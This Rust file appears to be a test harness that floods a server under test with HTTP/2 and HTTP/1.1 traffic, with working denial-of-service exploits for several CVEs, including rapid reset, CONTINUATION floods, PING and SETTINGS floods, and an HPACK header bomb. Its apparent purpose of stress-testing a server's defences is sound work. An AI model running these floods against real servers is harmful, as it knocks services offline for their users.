//! Floods of frames that cost their sender nothing: every one that has had a CVE, and their relatives.
//!
//! Each is sent twice at the same time, by an attacker that reads what comes back and by one that does not: what the
//! server would like to answer must not pile up.

use std::time::Instant;

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::arena::Arena;
use crate::http2::{
    ACK, CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING,
    PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, begin, block, call, fields, frame, number, settings,
};
use crate::messages::{self, INFO, PLACEMENTS};

/// What a flood sends next: it gets the number of the next stream, and moves it on.
type Next = fn(&mut u32) -> Vec<u8>;

/// The numbers of error codes.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

/// Sends for a while; on a connection that the server has closed, the flood goes on over a new one.
async fn flood(arena: &Arena, first: Next, next: Next) -> Result<()> {
    let until = Instant::now() + arena.while_flooding();
    let address = arena.address;
    let attacker = |reads: bool| async move {
        while Instant::now() < until {
            let Ok(connection) = Connection::open(address, &[]).await else { break };
            let (mut read, mut write) = connection.split();
            let reader = tokio::spawn(async move {
                let mut buffer = vec![0; 65_536];
                while reads && read.read(&mut buffer).await.is_ok_and(|length| length > 0) {}
                (!reads).then_some(read) // unread, and open
            });
            let mut stream = 1;
            let mut bytes = first(&mut stream);
            let wrote = async {
                while write.write_all(&bytes).await.is_ok() {
                    bytes.clear();
                    while bytes.len() < 16_384 {
                        bytes.extend(next(&mut stream));
                    }
                    if stream > 0x7FFF_0000 {
                        break;
                    }
                }
            };
            let _ = tokio::time::timeout_at(until.into(), wrote).await;
            reader.abort();
        }
    };
    tokio::join!(attacker(true), attacker(false));
    Ok(())
}

fn nothing(_: &mut u32) -> Vec<u8> {
    Vec::new()
}

fn next_stream(stream: &mut u32) -> u32 {
    *stream += 2;
    *stream - 2
}

/// Calls that are taken back as soon as they are made (CVE-2023-44487).
pub async fn rapid_reset(arena: &Arena) -> Result<()> {
    flood(arena, nothing, |stream| {
        let stream = next_stream(stream);
        [call(stream, INFO, &[]), frame(RST_STREAM, 0, stream, &CANCEL)].concat()
    })
    .await
}

/// The same with calls that take seconds of work.
pub async fn rapid_reset_of_work(arena: &Arena) -> Result<()> {
    flood(arena, nothing, |stream| {
        let stream = next_stream(stream);
        [call(stream, PLACEMENTS, &messages::caves(100)), frame(RST_STREAM, 0, stream, &CANCEL)].concat()
    })
    .await
}

/// Calls that the server itself is made to take back (CVE-2025-8671): by a window that grows by nothing, and by DATA after
/// their end.
pub async fn made_to_reset(arena: &Arena) -> Result<()> {
    flood(arena, nothing, |stream| {
        let (one, other) = (next_stream(stream), next_stream(stream));
        [
            call(one, INFO, &[]),
            frame(WINDOW_UPDATE, 0, one, &[0; 4]),
            call(other, INFO, &[]),
            frame(DATA, 0, other, b"more"),
        ]
        .concat()
    })
    .await
}

/// A field of every kind in malformed calls, each of which the server refuses with an answer.
pub async fn malformed(arena: &Arena) -> Result<()> {
    flood(arena, nothing, |stream| {
        let upper = block(&[&fields(INFO)[..], &[("X-Upper", "case")]].concat());
        let missing = block(&fields(INFO)[1..]);
        let one = |block: &[u8], stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, block);
        [one(&upper, next_stream(stream)), one(&missing, next_stream(stream))].concat()
    })
    .await
}

/// PINGs, which want an answer (CVE-2019-9512).
pub async fn pings(arena: &Arena) -> Result<()> {
    flood(arena, nothing, |_| frame(PING, 0, 0, b"answer!!")).await
}

/// Answers to PINGs that the server did not send.
pub async fn pongs(arena: &Arena) -> Result<()> {
    flood(arena, nothing, |_| frame(PING, ACK, 0, b"answer!!")).await
}

/// Settings that want to be acknowledged (CVE-2019-9515), and move the windows of all streams.
pub async fn settings_again(arena: &Arena) -> Result<()> {
    flood(
        arena,
        |stream| (0..500).flat_map(|_| call(next_stream(stream), INFO, &[])).collect(),
        |_| {
            [
                settings(&[(INITIAL_WINDOW_SIZE, 0)]),
                settings(&[(INITIAL_WINDOW_SIZE, 1)]),
                frame(SETTINGS, 0, 0, &[]),
            ]
            .concat()
        },
    )
    .await
}

/// Header fields that never end (CVE-2024-27316 and its kin).
pub async fn continuations(arena: &Arena) -> Result<()> {
    flood(
        arena,
        |_| frame(HEADERS, END_STREAM, 1, &block(&fields(INFO))),
        |_| frame(CONTINUATION, 0, 1, &block(&[("x-more", "and more")]).repeat(500)),
    )
    .await
}

/// The same without anything in them.
pub async fn empty_continuations(arena: &Arena) -> Result<()> {
    flood(arena, |_| frame(HEADERS, 0, 1, &block(&fields(INFO))), |_| frame(CONTINUATION, 0, 1, &[])).await
}

/// Data without a byte (CVE-2019-9518).
pub async fn empty_data(arena: &Arena) -> Result<()> {
    flood(arena, |_| begin(1, INFO, &[]), |_| frame(DATA, 0, 1, &[])).await
}

/// Windows that grow byte by byte.
pub async fn window_updates(arena: &Arena) -> Result<()> {
    flood(
        arena,
        |_| begin(1, INFO, &[]),
        |_| [frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]), frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])].concat(),
    )
    .await
}

/// Priorities, of streams that exist and that do not (CVE-2019-9513).
pub async fn priorities(arena: &Arena) -> Result<()> {
    flood(
        arena,
        |_| begin(1, INFO, &[]),
        |stream| {
            let stream = next_stream(stream);
            frame(PRIORITY, 0, stream, &[(stream + 2).to_be_bytes().as_slice(), &[16]].concat())
        },
    )
    .await
}

/// Goodbyes, and frames of kinds that do not exist.
pub async fn goodbyes(arena: &Arena) -> Result<()> {
    flood(arena, nothing, |_| [frame(0xFA, 0xFF, 0, &[7; 1000]), frame(GOAWAY, 0, 0, &[0; 8])].concat()).await
}

/// A field of 4,000 bytes put into the table once, and named with one byte ten thousand times in every call.
pub async fn header_bombs(arena: &Arena) -> Result<()> {
    fn bomb(stream: u32, first: bool) -> Vec<u8> {
        let mut block = block(&fields(INFO));
        if first {
            block.push(0x40); // literal, into the table
            number(0, 7, 6, &mut block);
            block.extend(b"x-bomb");
            number(0, 7, 4000, &mut block);
            block.extend([b'a'; 4000]);
        }
        number(0x80, 7, 62, &mut block); // the newest of the table
        let at = block.len() - 1;
        let byte = block[at];
        block.resize(16_000, byte);
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
    }
    flood(arena, |stream| bomb(next_stream(stream), true), |stream| bomb(next_stream(stream), false)).await
}

/// Trailers after trailers, and a table whose size changes with every call.
pub async fn tables(arena: &Arena) -> Result<()> {
    flood(arena, nothing, |stream| {
        let mut head = vec![0x20]; // a table of no bytes
        number(0x20, 5, 4096, &mut head);
        head.extend(block(&fields(INFO)));
        let stream = next_stream(stream);
        let trailers = block(&[("x-trailer", "t")]);
        [
            frame(HEADERS, END_HEADERS, stream, &head),
            frame(HEADERS, END_HEADERS | END_STREAM, stream, &trailers),
        ]
        .concat()
    })
    .await
}

/// Pages over HTTP/1.1, requested one after the other and never read.
pub async fn pages(arena: &Arena) -> Result<()> {
    let until = Instant::now() + arena.while_flooding();
    let ask = "GET /metrics HTTP/1.1\r\nhost: localhost\r\n\r\nGET / HTTP/1.1\r\nhost: localhost\r\n\r\n"
        .repeat(100);
    for _ in 0..20 {
        let mut stream = TcpStream::connect(arena.address).await?;
        let ask = ask.clone();
        arena.spawn(async move { while stream.write_all(ask.as_bytes()).await.is_ok() {} });
    }
    tokio::time::sleep_until(until.into()).await;
    Ok(())
}
